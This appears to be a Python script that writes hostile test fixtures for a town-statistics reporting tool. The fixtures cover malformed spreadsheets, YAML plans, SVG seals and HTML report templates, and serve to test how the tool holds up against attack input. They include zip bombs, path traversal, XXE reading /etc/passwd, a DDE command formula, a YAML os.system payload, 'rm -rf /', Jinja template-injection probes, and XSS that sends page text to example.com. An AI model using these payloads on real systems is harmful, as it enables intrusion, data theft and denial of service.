"""Makes tests/hostile/: files that mean harm, or look as if they did. ``python -m tests.tools.make_hostile`` writes them anew.

Each folder says where its files are put: ``tables`` are given to ``ingest``, ``plan`` stand in for
``plan/revisions.yaml``, ``seals`` for the town's seal, ``templates`` for ``report.html.j2``.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import openpyxl
from openpyxl.utils import get_column_letter

FOLDER = Path(__file__).parents[1] / "hostile"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_AT = (1980, 1, 1, 0, 0, 0)
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
_READS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY d SYSTEM "file:///etc/passwd">]>'
_HEADING = "系列,対象,値,単位,状態,公表日,備考\n"
_ODS_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>{doctype}<office:document-content '
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
    '<office:spreadsheet><table:table table:name="表">{rows}</table:table></office:spreadsheet></office:body>'
    "</office:document-content>"
)
_ODS_CELL = (
    '<table:table-cell office:value-type="string"{repeated}><text:p>{text}</text:p></table:table-cell>'
)


def packed(members: Mapping[str, bytes | str], *, flags: int = 0, mode: int = 0) -> bytes:
    """A ZIP with these members, the same bytes every time; ``flags`` as they would be in its headers."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            entry = zipfile.ZipInfo(name, _AT)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.create_system = 3
            entry.external_attr = mode << 16
            archive.writestr(entry, content, compresslevel=9)
    raw = bytearray(out.getvalue())
    if flags:
        for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = raw.find(signature)
            raw[at + offset] |= flags
    return bytes(raw)


def _xlsx(change: Callable[[openpyxl.Workbook], None]) -> dict[str, bytes]:
    book = openpyxl.Workbook()
    change(book)
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members.pop("docProps/core.xml", None)  # it has the time of saving
    return members


def _write(cell: str, value: object) -> Callable[[openpyxl.Workbook], None]:
    def change(book: openpyxl.Workbook) -> None:
        book.active[cell] = value

    return change


def _many_sheets(book: openpyxl.Workbook) -> None:
    for number in range(150):
        book.create_sheet(f"{number}")["A1"] = "x"


def _own_counts(book: openpyxl.Workbook) -> None:
    sheet = book.active
    assert sheet is not None
    for row in (["系列", "対象", "値", "単位", "状態", "公表日", "備考"], ["コミュニティ施設の利用者数", "R8", '=cmd|"/c calc"!A1', "人", "", "2027-04-20", ""]):  # fmt: skip
        sheet.append(row)


def counts_with_macros() -> bytes:
    """A workbook of a town's own counts, as sound as any, that carries macros and a link."""

    def change(book: openpyxl.Workbook) -> None:
        for row in (
            _HEADING.strip().split(","),
            ["コミュニティ施設の利用者数", "R8", "621", "人", "", "2027-04-21", ""],
        ):
            book.active.append(row)

    return packed(
        _xlsx(change)
        | {"xl/vbaProject.bin": b"Auto_Open", "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
    )


def _ods(rows: str, doctype: str = "") -> bytes:
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    return packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "META-INF/manifest.xml": manifest,
            "content.xml": _ODS_HEAD.format(doctype=doctype, rows=rows),
        }
    )


def _counts(value: str, series: str = "コミュニティ施設の利用者数", period: str = "R8") -> bytes:
    return f"{_HEADING}{series},{period},{value},人,,2027-04-20,\n".encode()


def _row(cell: str, repeated: str = "") -> str:
    return f"<table:table-row{repeated}>{cell}</table:table-row>"


def tables() -> Iterator[tuple[str, bytes]]:
    """What is given to ``ingest``."""
    yield from _archives()
    yield from _workbooks()
    yield from _open_documents()
    yield from _texts()


def _archives() -> Iterator[tuple[str, bytes]]:
    yield "ZIP爆弾.zip", packed({"0.csv": bytes(101 * 10**6)})
    yield "ZIPの中のZIP.zip", packed({"a.zip": packed({"a.csv": "x"})})
    yield "中身が500個.zip", packed({f"{n}.csv": "x" for n in range(500)})
    yield "外へ出る名前.zip", packed({"../../外.csv": "x"})
    yield "絶対パスの名前.zip", packed({"/etc/cron.d/x": "x"})
    yield "制御文字の名前.zip", packed({"\x1b[2J\x1b[31m.csv": "x"})
    yield "リンクの入った.zip", packed({"link.csv": "/etc/passwd"}, mode=0o120777)
    yield "パスワード付き.zip", packed({"a.csv": "x"}, flags=1)
    yield "途中で切れた.zip", packed({"a.csv": "x" * 1000})[:60]


def _workbooks() -> Iterator[tuple[str, bytes]]:
    whole = packed(_xlsx(_write("A1", "x")))
    cell = f"{get_column_letter(16384)}1048576"
    with_laughs = _xlsx(_write("A1", "x"))
    with_laughs["xl/sharedStrings.xml"] = f"{_LAUGHS}<sst><si><t>&d;</t></si></sst>".encode()
    reading = _xlsx(_write("A1", "x"))
    reading["xl/sharedStrings.xml"] = f"{_READS}<sst><si><t>&d;</t></si></sst>".encode()
    macros = _xlsx(_write("A1", "x"))
    macros["xl/vbaProject.bin"] = b"Auto_Open"
    linked = _xlsx(_write("A1", "x"))
    linked["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"
    yield "実体の爆弾.xlsx", packed(with_laughs)
    yield "外部実体.xlsx", packed(reading)
    yield "右下の端に値.xlsx", packed(_xlsx(_write(cell, 1)))
    yield "シートが151枚.xlsx", packed(_xlsx(_many_sheets))
    yield "マクロ.xlsm", packed(macros)
    yield "外部リンク.xlsx", packed(linked)
    yield "コマンドの式.xlsx", packed(_xlsx(_own_counts))
    yield from _declared_over_the_sheet()
    yield "途中で切れた.xlsx", whole[: len(whole) // 2]
    yield "膨らむシート.xlsx", packed(_xlsx(_write("A1", "x")) | {"xl/media/0.bin": bytes(101 * 10**6)})
    yield "必要な部品がない.xlsx", packed({"[Content_Types].xml": "x"})
    yield "暗号化された.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"EncryptedPackage"
    yield "壊れた.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8


def _declared_over_the_sheet() -> Iterator[tuple[str, bytes]]:
    """What a few kilobytes say of a whole sheet, or of one cell without end."""
    sheet, everything = "xl/worksheets/sheet1.xml", "A1:XFD1048576"
    grid = "".join(f"<row>{'<c><v>1</v></c>' * 50}</row>" for _ in range(50))

    def of(rows: str, after: str = "") -> bytes:
        xml = f'<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData>{after}</worksheet>'
        return packed(_xlsx(_write("A1", "x")) | {sheet: xml.encode()})

    yield "全面の結合.xlsx", of(grid, f'<mergeCells><mergeCell ref="{everything}"/></mergeCells>')
    merges = f'<mergeCell ref="{everything}"/>' * 5000
    yield "重なる結合.xlsx", of(grid, f"<mergeCells>{merges}</mergeCells>")
    links = f'<hyperlink ref="{everything}" location="a"/>' * 5000
    yield "全面のリンク.xlsx", of(grid, f"<hyperlinks>{links}</hyperlinks>")
    ranges = f"{everything} " * 5000
    yield (
        "全面の入力規則.xlsx",
        of(grid, f'<dataValidations><dataValidation sqref="{ranges}"/></dataValidations>'),
    )
    yield "深い入れ子.xlsx", of("<r>" * 200_000)
    yield "欄のない要素.xlsx", of("<a/>" * 9_000_000)
    yield (
        "離れた欄.xlsx",
        of("".join(f'<row r="{n}"><c r="BXX{n}"><v>1</v></c></row>' for n in range(1, 2000))),
    )
    yield (
        "同じ長文.xlsx",
        of(
            f"<row>{f'<c t={chr(34)}inlineStr{chr(34)}><is><t>{chr(0x90FD) * 32_000}</t></is></c>' * 1700}</row>"
        ),
    )


def _open_documents() -> Iterator[tuple[str, bytes]]:
    plain = _ODS_CELL.format(repeated="", text="x")
    yield "行の繰り返し.ods", _ods(_row(plain, ' table:number-rows-repeated="1048576"'))
    yield (
        "列の繰り返し.ods",
        _ods(_row(_ODS_CELL.format(repeated=' table:number-columns-repeated="16384"', text="x"))),
    )
    laughing = _LAUGHS.partition("?>")[2]
    yield "実体の爆弾.ods", _ods(_row(_ODS_CELL.format(repeated="", text="&d;")), laughing)
    yield (
        "外部実体.ods",
        _ods(_row(_ODS_CELL.format(repeated="", text="&d;")), _READS.partition("?>")[2]),
    )
    spaces = '<text:s text:c="2000000000"/>'
    yield "20億の空白.ods", _ods(_row(_ODS_CELL.format(repeated="", text=spaces)))
    both = _ODS_CELL.format(repeated=' table:number-columns-repeated="1999"', text="x")
    yield "行と列の繰り返し.ods", _ods(_row(both, ' table:number-rows-repeated="99999"'))
    yield "中身のない.ods", packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"})


def _texts() -> Iterator[tuple[str, bytes]]:
    yield "NULだけ.csv", bytes(2000)
    yield "でたらめ.csv", bytes((n * 197 + n // 7) % 256 for n in range(4000))
    yield "閉じない引用符.csv", ('"' + "x,\n" * 50).encode()
    yield "長すぎる欄.csv", b'"' + b"x" * 200_000 + b'",1\n'
    yield "15万行.csv", b"x\n" * 150_000
    yield "3千列.csv", b"x," * 3000
    yield "式の値.csv", _counts('"=HYPERLINK(""http://example.com"")"')
    yield "大きすぎる数.csv", _counts("1e400")
    yield "数でない数.csv", _counts("NaN")
    yield "無限大.csv", _counts("Infinity")
    yield "アラビア数字.csv", _counts("٦٢٠")
    yield "ありえない年.csv", _counts("620", period="R99999")
    yield "向きを変える文字.csv", _counts("620", series="コミュニティ施設\u202eの利用者数")
    yield "制御文字の系列.csv", _counts("620", series="\x1b]0;乗っ取り\x07系列")
    yield "百万桁.csv", _counts("9" * 100_000)
    yield "深い入れ子.json", b'{"a":' + b"[" * 100_000
    yield "統計でない.json", b'{"GET_STATS_DATA": {"STATISTICAL_DATA": []}}'
    yield "名前だけ表.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /OpenAction 2 0 R >>\n"
    yield "実行ファイル.csv", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)
    yield "UTF-32.csv", _HEADING.encode("utf-32")
    yield "空.csv", b""
    yield "都の並ぶ行.csv", ("美郷町" + "都" * 100_000 + "\n").encode()
    yield "コンマだけの行.csv", b"," * 1_000_000
    yield "重なる濁点.csv", ("か" + "\u3099\u0316" * 20_000).encode()
    yield "角括弧.json", b"[" * 1_000_000
    yield "ログイン画面.xlsx", "<html><title>ログイン</title><input type='password'></html>".encode()
    yield "議会資料.pdf", b"%PDF-1.7"


def plans() -> Iterator[tuple[str, bytes]]:
    """What stands in for a YAML file of the plan."""
    yield "実行する型.yaml", b"revisions: !!python/object/apply:os.system ['touch hacked']\n"
    yield "自作の型.yaml", b"revisions: !hacked x\n"
    levels = "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 10)}]\n" for n in range(8)
    )
    yield "引用の爆弾.yaml", f"a: &a [x, x, x, x, x, x, x, x, x, x]\n{levels}".encode()
    yield "自分を引用.yaml", b"revisions: &a [*a]\n"
    yield "10万段の入れ子.yaml", b"revisions: " + b"[" * 100_000
    yield "字下げの10万段.yaml", b"".join(b" " * n + b"a:\n" for n in range(400))
    yield "二度ある鍵.yaml", b"revisions: []\nrevisions: []\n"
    yield "大きすぎる.yaml", b"# " + b"x" * 2_100_000 + b"\nrevisions: []\n"
    yield "文字コード違い.yaml", "revisions: [計画]\n".encode("cp932")
    yield "タブの字下げ.yaml", b"revisions:\n\t- date: 2027-01-01\n"
    yield "知らない鍵.yaml", b"revisions: []\nrun: rm -rf /\n"
    yield "制御文字.yaml", b'revisions: "a\0b"\n'
    yield "二つの文書.yaml", b"revisions: []\n---\nrevisions: []\n"


def seals() -> Iterator[tuple[str, bytes]]:
    """What stands in for the town's seal."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
    yield "実体の爆弾.svg", (_LAUGHS + svg.format("<text>&d;</text>")).encode()
    yield "外部実体.svg", (_READS + svg.format("<text>&d;</text>")).encode()
    yield "UTF-16の実体.svg", ('<?xml version="1.0" encoding="UTF-16"?>' + _LAUGHS.partition("?>")[2] + svg.format("&d;")).encode("utf-16")  # fmt: skip
    yield (
        "よそを読む.svg",
        svg.format('<image xlink:href="http://example.com/x.png" width="9" height="9"/>').encode(),
    )
    yield (
        "ファイルを読む.svg",
        svg.format('<image xlink:href="file:///etc/passwd" width="9" height="9"/>').encode(),
    )
    yield "絵でない.png", b"<script>alert(1)</script>"
    yield "大きすぎる.svg", svg.format("<!-- " + "x" * 400_000 + " -->").encode()
    ten = '<use xlink:href="#a{}"/>' * 10
    uses = "".join(f'<g id="a{n}">{ten}</g>'.replace("{}", str(n - 1)) for n in range(1, 12))
    dot = '<g id="a0"><rect width="1" height="1"/></g>'
    yield "useの爆弾.svg", svg.format(f'<defs>{dot}{uses}</defs><use xlink:href="#a11"/>').encode()
    yield "深い入れ子.svg", svg.format("<g>" * 20_000 + "</g>" * 20_000).encode()
    yield "大きな絵の爆弾.png", _vast_picture(40_000)


def _vast_picture(side: int) -> bytes:
    """A PNG of black pixels, small as a file."""

    def part(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    lines = zlib.compress((b"\0" + bytes(side // 8)) * side, 9)
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", lines) + part(b"IEND", b"")


def _endless_pages() -> Iterator[tuple[str, str]]:
    """Pages of a few letters that take a long time, or much memory, to lay out."""
    variables = "".join(f"--a{n}:{f'var(--a{n - 1}) ' * 10};" for n in range(1, 12))
    yield "変数の爆弾", f"<style>:root{{--a0:x;{variables}}}p::before{{content:var(--a11)}}</style><p>x"
    yield "百万字の語", "<p>{% for a in range(50000) %}" + "美" * 20 + "{% endfor %}"
    yield "10億列の欄", "<table><tr><td colspan=1000000000>x"
    yield "深い入れ子", "<b>" * 5000 + "x"
    yield "深い入れ子の段落", "{% for a in range(20000) %}<div>{% endfor %}x"
    yield (
        "小さすぎる紙",
        "<style>@page{size:1px 1px;margin:0}</style><p>{% for a in range(20000) %}あ {% endfor %}",
    )
    yield "10万行の表", "<table>{% for a in range(100000) %}<tr><td>x{% endfor %}</table>"
    yield "重い選び方", "<style>" + ":has(p) " * 30 + "{color:red}</style>" + "<div>" * 60 + "<p>x" * 3000


def _reaching_pages() -> Iterator[tuple[str, str]]:
    """Pages that would read or send, from the computer of who reads the report."""
    yield "スクリプト", "<script>location='http://example.com/?'+document.body.innerText</script>"
    yield "外のスクリプト", "<script src='x.js'></script>"
    yield "押すと動く", "<p onclick='alert(1)'>x"
    yield "動く宛先", "<a href=' java&#9;script:alert(1)'>x</a>"
    yield "行き先を変える", "<meta http-equiv=refresh content='0;url=http://example.com/'>"
    yield (
        "隠した行き先",
        "<svg><style><meta http-equiv=refresh content='0;url=http://example.com/'></style></svg>",
    )
    yield "注釈に隠した枠", "<!--><iframe src='//example.com'></iframe>-->"
    yield "緩い方針", "<meta http-equiv=Content-Security-Policy content='script-src *'>"
    yield "基点を変える", "<base href='http://example.com/'>"
    yield "枠", "<iframe srcdoc='x'></iframe>"
    yield "送る様式", "<form action='x'><input name=a></form>"
    yield "よその部品", "<object data='x.swf'></object>"
    yield "よそへの案内", "<a href='//example.com/{{ report.plan_title }}'>x</a>"
    yield "よその共有", "<img src='\\\\example.com\\x.png'>"


def templates() -> Iterator[tuple[str, bytes]]:
    """What stands in for ``report.html.j2``."""
    for name, body in {
        "中を覗く": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "関数を覗く": "{{ report.__init__.__globals__ }}",
        "外を読む": "{% include '../../../../etc/passwd' %}",
        "終わらない": "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
        "長すぎる文字": "{{ 'x' * 1000000000 }}",
        "広すぎる書式": "{{ '{:>1000000000}'.format('x') }}",
        "広すぎる百分率": "{{ '%1000000000d' % 1 }}",
        "べき乗": "{{ 9 ** 9 ** 9 }}",
        "広すぎる中央": "{{ 'x' | center(1000000000) }}",
        "ない値": "{{ report.no_such_thing }}",
        "閉じない": "{% if report.sample %}",
        "よその絵": "<img src='http://example.com/x.png'>",
        "よその書式": "<style>@import url(http://example.com/x.css);</style>",
        "手元のファイル": "<img src='file:///etc/passwd'>",
        "隣のファイル": "<img src='../plan/plan.yaml'>",
        "外の取り込み": "<img src='{{ inlined(\"../plan/plan.yaml\") }}'>",
        "倍になる連結": "{% set a = 'x' %}" + "{% set a = a ~ a %}" * 60 + "{{ a }}",
        "倍になる枠": "{% set a %}x{% endset %}" + "{% set a %}{{ a }}{{ a }}{% endset %}" * 60,
        "倍になる並び": "{% set a = ['x'] %}" + "{% set a = [a, a] %}" * 60 + "{{ a | upper }}",
        "倍になる足し算": "{% set a = 'x' %}" + "{% set a = a + a %}" * 60,
        "倍になるマクロ": "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(60) }}",
        "自分を含む": "{% include 'report.html.j2' %}",
    }.items():
        yield f"{name}.html.j2", _page(body)
    for name, body in (*_endless_pages(), *_reaching_pages()):
        yield f"{name}.html.j2", _page(body)


def _page(body: str) -> bytes:
    return f"<!DOCTYPE html><title>x</title>{body}\n".encode()


KINDS = {"tables": tables, "plan": plans, "seals": seals, "templates": templates}


def main() -> None:
    """Write them all."""
    for kind, make in KINDS.items():
        folder = FOLDER / kind
        folder.mkdir(parents=True, exist_ok=True)
        for path in folder.iterdir():
            path.unlink()
        for name, content in make():
            (folder / name).write_bytes(content)


if __name__ == "__main__":
    main()
